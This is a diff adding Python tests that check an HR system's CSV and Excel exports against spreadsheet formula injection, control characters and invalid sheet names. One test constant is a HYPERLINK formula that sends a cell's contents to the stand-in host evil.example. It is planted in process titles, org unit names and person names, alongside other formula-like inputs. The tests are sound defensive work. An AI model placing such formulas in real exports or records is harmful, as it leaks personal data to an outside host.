@@ -11,7 +11,7 @@ from openpyxl import load_workbook
 from engine.dashboards import hr_dashboard
 from engine.errors import NotAllowed
 from engine.exports import Table, as_csv, as_xlsx, cycle_results, dashboard_tables
-from engine.models import Person
+from engine.models import Person, ProcessDefinition
 from tests.engine.test_dashboards import (
     Org,
     build_org,
@@ -105,3 +105,70 @@ def test_sheet_names_are_made_valid_and_unique():
     book = load_workbook(io.BytesIO(as_xlsx([
         Table("2026/27 results: all", ["a"]), Table("2026/27 results: all", ["a"])])))
     assert book.sheetnames == ["2026_27 results_ all", "2026_27 results_ all (2)"]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'
+
+
+def formulas_in(book) -> list[str]:
+    """Every cell of the workbook a spreadsheet would run (or show as an error value)."""
+    return [f"{sheet.title}!{cell.coordinate}" for sheet in book.worksheets
+            for row in sheet.iter_rows() for cell in row if cell.data_type in ("f", "e")]
+
+
+async def test_a_process_title_that_looks_like_a_formula_is_a_text_header(org):
+    # Process titles come from a pack's pack.toml: whoever writes the pack writes the header.
+    await ProcessDefinition.filter(process_id="objective_setting").update(title=FORMULA)
+    cycle = await results_cycle(org)
+    table = await cycle_results(cycle, org.viewer("HA"))
+
+    book = load_workbook(io.BytesIO(as_xlsx([table])))
+    header = {cell.value: cell for cell in book.active[1]}
+    assert header[FORMULA].data_type == "s" and header[FORMULA].font.bold
+    assert formulas_in(book) == []
+
+    header_row = next(csv.reader(io.StringIO(as_csv(table))))
+    assert "'" + FORMULA in header_row and FORMULA not in header_row
+
+
+async def test_no_text_anywhere_in_the_workbook_becomes_a_formula(org):
+    from engine.directory import bump_directory_version
+    from engine.models import OrgUnit
+
+    await ProcessDefinition.filter(process_id="year_end_appraisal").update(title="@SUM(1)")
+    await OrgUnit.filter(code="ENG").update(name=FORMULA)
+    await Person.filter(key="EM").update(name="#N/A")
+    await bump_directory_version()
+    cycle = await results_cycle(org)
+    tables = [await cycle_results(cycle, org.viewer("HA")),
+              *dashboard_tables(await hr_dashboard(cycle, org.viewer("HA")))]
+    book = load_workbook(io.BytesIO(as_xlsx(tables)))
+
+    assert formulas_in(book) == []
+    values = {cell.value for sheet in book.worksheets for row in sheet.iter_rows()
+              for cell in row}
+    # The text is kept as it is, so HR reads what the directory and the pack say.
+    assert {FORMULA, "@SUM(1)", "#N/A"} <= values
+    for line in csv.reader(io.StringIO(as_csv(tables[0]))):
+        assert not any(field.startswith(("=", "+", "@")) for field in line), line
+
+
+def test_csv_escapes_a_formula_behind_blanks_and_in_the_header():
+    table = Table("t", ["=1+1", "  +1", "Plain", "\t@x"], [[" =2+2", "-", "a-b", 1]])
+    header, row = list(csv.reader(io.StringIO(as_csv(table))))
+    assert header == ["'=1+1", "'  +1", "Plain", "'\t@x"]
+    assert row == ["' =2+2", "'-", "a-b", "1"]
+
+
+def test_sheet_names_are_what_excel_accepts():
+    book = load_workbook(io.BytesIO(as_xlsx([
+        Table("'Quoted'", ["a"]), Table("History", ["a"]), Table("bell\x07 and\x1b esc", ["a"]),
+        Table("'''", ["a"]),
+    ])))
+    assert book.sheetnames == ["Quoted", "History (2)", "bell and esc", "Sheet"]
+
+
+def test_control_characters_from_the_directory_do_not_break_the_workbook():
+    table = Table("t", ["Na\x00me"], [["Dora\x0bDev"], ["line\nbreak\ttab"]])
+    sheet = load_workbook(io.BytesIO(as_xlsx([table]))).active
+    assert [c.value for c in sheet["A"]] == ["Name", "DoraDev", "line\nbreak\ttab"]
